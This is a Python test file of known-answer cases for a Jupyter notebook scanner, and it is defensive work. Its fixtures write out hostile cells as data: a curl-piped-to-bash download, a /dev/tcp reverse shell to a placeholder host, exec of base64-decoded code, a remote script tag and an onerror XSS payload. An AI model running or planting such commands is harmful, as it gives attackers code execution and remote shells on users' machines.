"""Known answers for `artifact.notebook-code`. The cells in them are never run."""

import json

from seatrial.testing.case import Case


def _notebook(*sources: str, html: str = "") -> bytes:
    data = {"output_type": "display_data", "data": {"text/html": [html]}, "metadata": {}}
    cells = [
        {"cell_type": "code", "metadata": {}, "source": [source], "outputs": [data] if html else []}
        for source in sources
    ]
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}, indent=1).encode()


CASES: tuple[Case, ...] = (
    Case(
        name="a command fetches a program into a shell",
        files={"demo.ipynb": _notebook("!curl -s https://example.invalid/a.sh | bash\n")},
        expect=("fail: cell 1: a command fetches a program and runs it",),
    ),
    Case(
        name="a cell that is a script opens a shell to the network",
        files={"demo.ipynb": _notebook("x = 1", "%%bash\nbash -i >& /dev/tcp/example.invalid/1 0>&1\n")},
        expect=("fail: cell 2: a command opens a shell to the network",),
    ),
    Case(
        name="a cell runs what it decodes",
        files={"demo.ipynb": _notebook("import base64\n%time\nexec(base64.b64decode('cGFzcw=='))\n")},
        expect=("fail: cell 1: runs code made at run time: exec('pass')",),
    ),
    Case(
        name="an output loads a script from elsewhere",
        files={"demo.ipynb": _notebook("x", html='<script src="https://example.invalid/x.js"></script>')},
        expect=("fail: cell 1: its output loads a script from example.invalid",),
    ),
    Case(
        name="an output runs a script when it is viewed",
        files={"demo.ipynb": _notebook("x", html='<img src=x onerror="alert(1)">')},
        expect=("review: cell 1: its output holds HTML that runs a script when it is viewed",),
    ),
    Case(
        name="breaks off",
        files={"demo.ipynb": _notebook("x = 1")[:-20]},
        expect=("open: a notebook that cannot be read to the end",),
    ),
    Case(
        name="a demonstration",
        files={
            "demo.ipynb": _notebook(
                "!pip install -q transformers torch\n%matplotlib inline\n",
                "from transformers import pipeline\npipe = pipeline('text-generation')\nprint(pipe('Hi'))\n",
                "import requests\nx = requests.get('https://huggingface.co/x.png').content\nfiles = !ls\n",
                html="<table><tr><td>1</td></tr></table>",
            )
        },
        good=True,
    ),
    Case(name="an empty notebook", files={"demo.ipynb": _notebook()}, good=True),
)
